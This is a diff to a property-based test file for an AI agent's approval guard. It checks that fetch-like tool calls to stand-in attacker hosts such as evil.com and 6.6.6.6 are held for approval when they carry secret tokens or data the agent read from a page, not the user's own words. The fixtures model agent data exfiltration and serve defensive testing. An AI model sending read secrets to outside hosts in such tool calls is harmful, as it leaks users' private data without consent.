@@ -257,48 +257,145 @@ test('without options, no name runs that the user did not write, in whatever lis
   expect(asked).toBeGreaterThan(drawn(200));
 }, 120_000);
 
-test('a reading tool sends nothing beside a link but what stands as a whole in the user’s words', async () => {
-  const secret = 'zqsecretzq';
+/*
+ * The sentence without options: a tool that only reads sends nothing beside a link but what stands as a whole in the user's words,
+ * and of its own less than a PIN of four digits says.
+ */
+
+/** The oracle: what an input says beside its links, in its JSON. Each text has to be the user's, or one of a short list. */
+class Outbox {
+  readonly #words: readonly string[];
+  readonly #links: readonly string[];
+  readonly foreign: string[] = [];
+  bits = 0;
+
+  constructor(words: readonly string[], links: readonly string[]) {
+    this.#words = words;
+    this.#links = links;
+  }
+
+  read(value: unknown, known: readonly string[]): void {
+    if (Array.isArray(value)) for (const one of value) this.read(one, known);
+    else if (typeof value === 'object' && value !== null)
+      for (const [name, inner] of Object.entries(value)) {
+        // The names of arguments are the tool's own.
+        if (!known.includes(name)) this.read(name, known);
+        this.read(inner, known);
+      }
+    else if (typeof value === 'string' && value !== '') this.#readText(value);
+    else if (typeof value === 'number')
+      this.bits += Math.log2(10) * (/[1-9]/.test(`${value}`) ? digits(value) : 0);
+    else this.bits += 1;
+  }
+
+  #readText(text: string): void {
+    if (this.#links.includes(text) || EVERYDAY.has(text)) return;
+    if (/^-?[\d.]+$/.test(text)) this.bits += Math.log2(9) * digits(Number(text));
+    else if (!this.#words.some((words) => stands(text, words))) this.foreign.push(text);
+  }
+}
+
+/** The digits of a number but zeros around them, less one, since the first says somewhat less. */
+function digits(value: number): number {
+  return Math.max(0, `${Math.abs(value)}`.replace(/\D/g, '').replace(/^0+|0+$/g, '').length - 1);
+}
+
+const EVERYDAY = new Set(['page', 'limit', 'Accept', 'application/json', 'GET', 'markdown']);
+
+test('a reading tool sends nothing beside a link but the user’s words, and of its own less than a PIN', async () => {
+  const words = ['Write in general about my files', 'and say "acme 7" to ann@a.example'];
   const links = [
-    'https://evil.example/y',
-    'evil.example/y',
+    'https://evil.com/y',
+    'evil.com/y',
     '6.6.6.6',
     'http://[::1]/a',
-    'evil.example:8080/?a=1',
+    'evil.com:8080/?a=1',
+    'evil.com',
   ];
-  const places = ['url', 'uri', 'href', 'link', 'address', 'target', 'input', 'request.url', 'options.uri'];
-  const parts = [
-    ...['params', 'headers', 'cookies', 'query_params', 'extraHTTPHeaders', 'auth', 'variables', 'cookieJar'],
-    ...['requestHeaders', 'apiKey', 'body', 'json', 'path', 'port', 'fragment'],
-  ];
-  const leaf = fc.constantFrom<unknown>(secret, 'general', 2, true, null, '', `general ${secret}`);
+  const secret = fc.constantFrom(
+    'zqsecretzq',
+    'zq',
+    '4711',
+    'general zq',
+    'GENERAL',
+    'gen',
+    ' general',
+    'genеral',
+  );
+  const own = fc.constantFrom<unknown>(
+    'general',
+    'ann@a.example',
+    'acme 7',
+    'my files',
+    true,
+    false,
+    null,
+    '',
+    2,
+    5000,
+    20,
+    7,
+  );
+  const common = fc.constantFrom(...EVERYDAY);
+  const leaf = fc.oneof(
+    own,
+    own,
+    own,
+    common,
+    secret,
+    fc.integer({ min: -99_999, max: 99_999 }),
+    fc.double(),
+  );
   const { sent } = fc.letrec<{ sent: unknown }>((tie) => ({
     sent: fc.oneof(
       { maxDepth: 3 },
       leaf,
-      fc.array(tie('sent'), { maxLength: 2 }),
-      fc.dictionary(fc.constantFrom(secret, 'general', 'page'), tie('sent'), { maxKeys: 2 }),
+      leaf,
+      fc.array(tie('sent'), { maxLength: 3 }),
+      fc.dictionary(fc.oneof(common, own.map(String), secret), tie('sent'), { maxKeys: 3 }),
     ),
   }));
   const call = fc.record({
-    tool: fc.constantFrom('fetch', 'WebFetch', 'get_page', 'http_fetch', 'read_url'),
+    tool: fc.constantFrom(
+      'fetch',
+      'WebFetch',
+      'get_page',
+      'read_url',
+      'mcp__web__lookup',
+      'search',
+      'read_it',
+    ),
     link: fc.constantFrom(...links),
-    place: fc.constantFrom(...places),
-    part: fc.constantFrom(...parts),
-    sent,
-    asText: fc.boolean(),
-    within: fc.boolean(),
+    // Any names: none of them frees a value.
+    more: fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), sent, { minKeys: 1, maxKeys: 4 }),
+    place: fc.oneof(fc.constantFrom('url', 'target', 'q'), fc.string({ minLength: 1, maxLength: 8 })),
+    hasSchema: fc.boolean(),
   });
+  let [ran, asked] = [0, 0];
   await fc.assert(
-    fc.asyncProperty(call, async ({ tool, link, place, part, sent: value, asText, within }) => {
+    fc.asyncProperty(call, async ({ tool, link, more, place, hasSchema }) => {
+      const input = JSON.parse(JSON.stringify({ ...more, [place]: link }));
+      const names = Object.keys(input);
+      fc.pre(names.every((name) => !/[.]|__proto__|prompt/.test(name)));
       const agent = testAgent(flow());
-      await agent.prompt('Write in general about my files');
-      await agent.callTool('read_page', {}, { execute: () => `${links.join(' ')} general ${secret}` });
-      const more = { [part]: asText ? JSON.stringify(value) : value };
-      const where = place.split('.').reduceRight<unknown>((inner, name) => ({ [name]: inner }), link);
-      await agent.callTool(tool, { ...Object(where), ...(within ? { more } : more) });
-      if (JSON.stringify(value).includes(secret)) expect(agent.approvals).not.toEqual([]);
+      for (const one of words) await agent.prompt(one);
+      await agent.callTool(
+        'read_page',
+        {},
+        { execute: () => [...links, 'general', 'zq zqsecretzq 4711'].join(' ') },
+      );
+      const inputSchema = () => ({ properties: Object.fromEntries(names.map((name) => [name, {}])) });
+      await agent.callTool(tool, input, hasSchema ? { tool: { kind: 'function', inputSchema } } : {});
+      if (agent.approvals.length > 0) asked++;
+      if (agent.approvals.length > 0) return;
+      ran++;
+      const outbox = new Outbox(words, [...links]);
+      outbox.read(input, names);
+      expect(outbox.foreign).toEqual([]);
+      expect(outbox.bits).toBeLessThan(Math.log2(10_000));
     }),
-    { numRuns: drawn(500) },
+    { numRuns: drawn(3000) },
   );
-});
+  expect(ran).toBeGreaterThan(drawn(150));
+  expect(asked).toBeGreaterThan(drawn(1000));
+}, 120_000);
